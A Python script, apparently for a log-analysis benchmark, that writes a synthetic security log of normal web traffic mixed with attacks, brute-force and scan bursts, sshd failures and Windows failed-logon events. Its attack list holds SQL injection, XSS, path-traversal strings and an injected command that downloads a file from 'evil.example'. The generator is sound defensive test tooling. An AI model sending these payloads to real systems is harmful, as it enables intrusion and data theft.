#!/usr/bin/env python3
"""Writes a mixed security log for the batch benchmark: access.log traffic with single-line attacks, brute-force
and scan bursts, sshd failures then a success, and Windows 4625 bursts, in time order.

    python3 bench/generate_mixed_log.py /tmp/mixed.log 5000000

Deterministic (fixed seed). Do not commit the output."""
import random
import sys

out_path = sys.argv[1]
target = int(sys.argv[2]) if len(sys.argv) > 2 else 5_000_000
rnd = random.Random(42)
MONTHS = "Mar"
UA = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
      "curl/7.68.0", "python-requests/2.28.1"]
PATHS = ["/", "/index.html", "/products?page={n}", "/static/app.{n}.js", "/api/v1/items/{n}", "/images/banner{n}.png",
         "/search?q=shoes+size+{n}", "/cart", "/checkout/step/{n}"]
ATTACKS = ['/profile?id={n} OR 1=1--', "/item?id={n}' UNION SELECT username,password FROM users--",
           "/comment?q=<script>alert(document.cookie)</script>", "/api/file?path=../../../../etc/passwd",
           "/load?file=/var/log/apache2/access.log", "/admin/exec?cmd=;wget http://evil.example/x -O /tmp/x"]
PROBES = ["/.env", "/.git/config", "/wp-admin", "/phpmyadmin", "/db_backup.sql", "/admin.php", "/server-status"]


def ip():
    return f"{rnd.randint(11, 220)}.{rnd.randint(0, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"


def ts(sec):
    d, s = divmod(sec, 86400)
    h, s = divmod(s, 3600)
    m, s = divmod(s, 60)
    return d + 1, h, m, s


def access(sec, src, method, path, status, size, ua):
    d, h, m, s = ts(sec)
    referer = f"https://shop.example.com/catalog/{rnd.randint(1, 999)}?utm_source=newsletter&utm_campaign=spring"
    return (f'{src} - - [{d:02d}/{MONTHS}/2025:{h:02d}:{m:02d}:{s:02d} +0000] "{method} {path} HTTP/1.1" {status} {size} '
            f'"{referer}" "{ua}"\n')


def sshd(sec, src, text):
    d, h, m, s = ts(sec)
    return f"{MONTHS} {d:2d} {h:02d}:{m:02d}:{s:02d} web01 sshd[{rnd.randint(1000, 65000)}]: {text} from {src} port {rnd.randint(1024, 65535)} ssh2\n"


def windows(sec, src, user):
    d, h, m, s = ts(sec)
    return (f"EventID: 4625\nTimestamp: {d:02d}-{MONTHS}-2025:{h:02d}:{m:02d}:{s:02d}\nSource IP: {src}\n"
            f"User: {user}\nDescription: Failed Login\nAdditional: Workstation DESKTOP-A1B2\n")


lines = 0
sec = 0
with open(out_path, "w", buffering=1 << 20) as f:
    while lines < target:
        sec += 1 if rnd.random() < 0.02 else 0
        r = rnd.random()
        if r < 0.985:
            path = rnd.choice(PATHS).format(n=rnd.randint(1, 500))
            f.write(access(sec, ip(), "GET", path, 200, rnd.randint(200, 90000), rnd.choice(UA)))
            lines += 1
        elif r < 0.990:
            f.write(access(sec, ip(), "GET", rnd.choice(ATTACKS).format(n=rnd.randint(1, 99)), rnd.choice([200, 403, 500]),
                           rnd.randint(0, 5000), "sqlmap/1.7" if rnd.random() < 0.3 else rnd.choice(UA)))
            lines += 1
        elif r < 0.993:
            src = ip()
            for _ in range(rnd.randint(5, 40)):
                f.write(access(sec, src, "POST", "/wp-login.php", 401, 0, "curl/7.68.0"))
                lines += 1
        elif r < 0.996:
            src = ip()
            for p in rnd.sample(PROBES, 5):
                f.write(access(sec, src, "GET", p, 404, 0, "nmap scripting engine"))
                lines += 1
        elif r < 0.998:
            src = ip()
            n = rnd.randint(3, 20)
            for _ in range(n):
                f.write(sshd(sec, src, "Failed password for root"))
            if rnd.random() < 0.3:
                f.write(sshd(sec, src, "Accepted password for root"))
                n += 1
            lines += n
        else:
            src = ip()
            for _ in range(rnd.randint(2, 10)):
                f.write(windows(sec, src, rnd.choice(["Administrator", "SYSTEM", "john.doe"])))
                lines += 6
print(f"wrote about {lines} lines to {out_path}", file=sys.stderr)
